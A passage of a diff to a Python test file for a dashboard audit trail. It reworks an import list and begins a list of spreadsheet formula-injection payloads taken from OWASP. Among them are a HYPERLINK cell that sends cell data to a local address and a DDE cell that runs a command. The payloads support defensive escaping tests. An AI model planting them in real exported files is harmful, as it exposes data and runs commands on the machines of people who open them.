@@ -17,7 +17,13 @@ from agentwatch.dashboards import audit_trail as trail
 from agentwatch.dashboards.escape import md
 from agentwatch.store.reader import open_reader
 from tests.checks_support import T0, iso, store_events
-from tests.dashboard_support import open_page, planted, shown_markdown, store_hostile
+from tests.dashboard_support import (
+    open_dashboard,  # noqa: F401  (autouse: no key asked)
+    open_page,
+    planted,
+    shown_markdown,
+    store_hostile,
+)
 
 # Cells a spreadsheet would run, from OWASP's CSV injection page, and the full-width forms.
 FORMULAS = ['=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"open")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)",
